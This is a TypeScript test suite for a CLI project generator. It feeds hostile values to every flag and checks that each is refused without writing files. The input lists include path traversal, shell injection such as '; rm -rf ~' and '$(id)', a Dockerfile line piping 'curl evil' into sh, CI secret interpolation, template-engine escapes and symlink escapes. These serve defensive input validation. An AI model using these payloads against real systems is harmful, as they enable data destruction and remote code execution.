import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";

import type { Answers } from "../../../generator/scaffold/answers.js";
import { CliError } from "../../../generator/cliError.js";
import { packageRoot } from "../../../generator/project/packageRoot.js";
import { scaffold } from "../../../generator/scaffold/scaffold.js";
import type { ScaffoldRequest } from "../../../generator/scaffold/scaffoldRequest.js";
import { filesBelow, scratchFolder } from "./scratchFolder.js";

/** Text that is code, markup or a path somewhere, and a legal value of no flag but the description. */
const HOSTILE = [
  "",
  " ",
  "../evil",
  "..%2fevil",
  "a/../../b",
  "C:\\x",
  "\\\\host\\s",
  "a\0b",
  "a\n  admin: true",
  'a"; process.exit(1); //',
  "`${process.env.X}`",
  "$(id)",
  "; rm -rf ~",
  "| sh",
  "${{ secrets.AWS }}",
  "${{ github.event.issue.title }}",
  "x\nRUN curl evil|sh",
  "</script>",
  "<!--",
  '{{constructor.constructor "return process"}}',
  '{{> (lookup . "p")}}',
  "__proto__",
  "constructor.prototype",
  "!!js/function",
  "-rf",
  "--upload-pack=x",
  "\u0430pi",
  "cafe\u0301",
  "a\u202eb",
  "80 ",
  "8e1",
  "0x50",
  "80.5",
  "-1",
  "0",
  "us-east-1; ls",
  "000000000000x",
  "arn:aws-cn:iam::123456789012:role/x",
  "x".repeat(50_000),
];

/** What is tried as the value of each other flag: one of each kind. */
const KINDS = [
  "",
  "../evil",
  "a\0b",
  "a\n  admin: true",
  'a"; process.exit(1); //',
  "`${process.env.X}`",
  "; rm -rf ~",
  "${{ secrets.AWS }}",
  '{{constructor.constructor "return process"}}',
  "a\u202eb",
  "80 ",
  "x".repeat(50_000),
];

const FLAGS: (keyof Answers)[] = [
  "template",
  "port",
  "healthCheckPath",
  "path",
  "organization",
  "platformProject",
  "architecture",
  "region",
  "cpu",
  "memory",
  "accountId",
  "repository",
  "language",
  "delivery",
];

describe("slipway new with hostile input", () => {
  const folder = scratchFolder();

  /** The message of the refusal; fails when it is taken, has two lines, or left anything. */
  async function refusal(request: Partial<ScaffoldRequest>): Promise<string> {
    const cwd = join(folder.path, "inside");
    mkdirSync(cwd);
    const refused = scaffold({ cwd, flags: {}, directory: "orders", yes: true, ...request });
    const error: unknown = await refused.then(
      () => assert.fail("it is taken"),
      (reason: unknown) => reason,
    );
    assert.ok(error instanceof CliError, String(error));
    assert.equal(error.exitCode, 1);
    assert.match(error.message, /^[\x20-\x7e]{1,600}$/);
    assert.deepEqual(filesBelow(folder.path), []);
    return error.message;
  }

  for (const value of HOSTILE) {
    it(`refuses ${JSON.stringify(value.slice(0, 40))} as the name`, async () => {
      await refusal({ flags: { name: value } });
    });
  }

  for (const flag of FLAGS) {
    for (const value of KINDS) {
      it(`refuses ${JSON.stringify(value.slice(0, 40))} as ${flag}`, async () => {
        await refusal({ flags: { [flag]: value } });
      });
    }
  }

  for (const [template, flag] of [
    ["platform", "domain"],
    ["platform", "zoneId"],
    ["platform", "stateBackend"],
    ["scheduled-job", "schedule"],
    ["scheduled-job", "timeZone"],
  ] as const) {
    for (const value of KINDS) {
      it(`refuses ${JSON.stringify(value.slice(0, 40))} as ${flag} of a ${template}`, async () => {
        await refusal({ flags: { template, [flag]: value } });
      });
    }
  }

  for (const [flag, value] of [
    ["port", "0"],
    ["port", "65536"],
    ["port", "8e1"],
    ["port", "0x50"],
    ["port", "80.5"],
    ["port", "-1"],
    ["cpu", "300"],
    ["accountId", "000000000000x"],
    ["region", "us-east-1; ls"],
  ] as const) {
    it(`refuses ${value} as ${flag}`, async () => {
      await refusal({ flags: { [flag]: value } });
    });
  }

  for (const value of [
    "",
    "a\n  admin: true",
    "${{ secrets.AWS }}",
    "</script>",
    "<!--",
    "a\u202eb",
    "\u2028",
  ]) {
    it(`refuses ${JSON.stringify(value)} as a description`, async () => {
      assert.match(await refusal({ flags: { description: value } }), /^'--description' must be /);
    });
  }

  it("refuses a key of AWS as a description, and does not repeat it", async () => {
    const message = await refusal({ flags: { description: "uses AKIAIOSFODNN7EXAMPLE" } });
    assert.doesNotMatch(message, /AKIA/);
  });

  for (const value of HOSTILE.filter((text) => !["__proto__", "0"].includes(text))) {
    it(`refuses ${JSON.stringify(value.slice(0, 40))} as the directory`, async () => {
      await refusal({ directory: value });
    });
  }

  for (const value of [
    "../x.tgz",
    "file:",
    "file:a b",
    "file:a'b",
    "git+ssh://host/x",
    "npm:evil",
    "latest",
    "*",
    "1.0.0 || 2",
    "$(id)",
  ]) {
    it(`refuses ${JSON.stringify(value)} as the package`, async () => {
      assert.match(await refusal({ package: value }), /^'--package' must be /);
    });
  }

  it("refuses a Dockerfile that is not there, a folder, and a path with a NUL", async () => {
    for (const dockerfile of ["./Dockerfile", ".", "a\0b"]) {
      const refused = scaffold({
        cwd: folder.path,
        flags: {},
        directory: "orders",
        yes: true,
        dockerfile,
      });
      await assert.rejects(refused, { name: "CliError", message: /^'--dockerfile' must be / });
    }
    assert.deepEqual(filesBelow(folder.path), []);
  });

  it("does not follow a link in the folder of a Dockerfile", async () => {
    folder.write("secret", "private");
    folder.write("inside/src/Dockerfile", "FROM scratch\nUSER 1\nEXPOSE 8080\n");
    symlinkSync("../../secret", join(folder.path, "inside/src/link"));
    symlinkSync("../..", join(folder.path, "inside/src/up"));
    const cwd = join(folder.path, "inside");
    const dockerfile = "src/Dockerfile";
    const result = await scaffold({ cwd, flags: {}, directory: "orders", yes: true, dockerfile });
    assert.deepEqual(
      result.files.filter((path) => path.startsWith("app/")),
      ["app/Dockerfile"],
    );
    assert.ok(result.warnings.includes("symbolic links are not copied: link, up"));
  });

  it("takes a description with quotes, dollars and semicolons for text everywhere", async () => {
    const description = `Anna's "best"; $(id) $HOME | # & * ! : - [x](y) %s`;
    await scaffold({ cwd: folder.path, flags: { description }, directory: "orders", yes: true });
    const root = join(folder.path, "orders");
    const read = spawnSync(
      process.execPath,
      [
        "-p",
        'JSON.stringify([require("./package.json").description, require("yaml").parse(fs.readFileSync("infra/Pulumi.yaml", "utf8")).description])',
      ],
      { cwd: root, encoding: "utf8", env: { NODE_PATH: join(packageRoot(), "node_modules") } },
    );
    assert.deepEqual(JSON.parse(read.stdout), [description, description], read.stderr);
  });
});

describe("slipway new, the command", () => {
  const folder = scratchFolder();

  /** Runs it in an empty folder in an empty folder; fails when it wrote anything or said more than a line. */
  function refusedLine(...args: string[]): string {
    const cwd = join(folder.path, "inside");
    mkdirSync(cwd, { recursive: true });
    const command = join(packageRoot(), "dist/generator/cli.js");
    const run = spawnSync(process.execPath, [command, "new", ...args], {
      cwd,
      encoding: "utf8",
      input: "",
    });
    assert.equal(run.stdout, "");
    assert.equal(run.status, 1);
    assert.match(run.stderr, /^slipway: [^\n]+\n$/);
    assert.deepEqual(filesBelow(folder.path), []);
    return run.stderr;
  }

  it("refuses a folder outside the current one", () => {
    assert.equal(
      refusedLine("../evil", "--yes"),
      `slipway: 'directory' must be a folder in the current one, of at most 64 letters, digits, hyphens, dots and underscores, got "../evil"; "orders" works\n`,
    );
  });

  it("refuses the absolute path of a folder in the current one", () => {
    assert.match(
      refusedLine(join(folder.path, "inside", "orders"), "--yes"),
      /^slipway: 'directory' must be /,
    );
  });

  it("refuses an unknown template, and lists those that there are", () => {
    assert.equal(
      refusedLine("orders", "--yes", "--template", "lambda"),
      `slipway: '--template' must be a template that exists (backend-service, ml-inference, platform, scheduled-job, web-service, worker), got "lambda"; backend-service works\n`,
    );
  });

  it("refuses a Dockerfile that does not exist", () => {
    assert.equal(
      refusedLine("orders", "--yes", "--dockerfile", "./Dockerfile"),
      `slipway: '--dockerfile' must be a Dockerfile, got "./Dockerfile", which does not exist; "./Dockerfile" is the usual place\n`,
    );
  });

  it("refuses to ask without a terminal, and names what is missing", () => {
    assert.equal(
      refusedLine("orders", "--port", "80"),
      "slipway: no terminal to ask on, and --health-check-path, --path, --architecture, --region, --organization, --platform-project missing: give them, or --yes for the defaults\n",
    );
  });

  it("refuses an option's name as the directory", () => {
    assert.match(refusedLine("-rf", "--yes"), /unknown option '-rf'/);
    assert.match(refusedLine("--yes", "--", "--upload-pack=x"), /'directory' must be a folder/);
  });

  it("refuses to go on without a name", () => {
    assert.match(refusedLine("--yes"), /'directory' is missing/);
  });
});
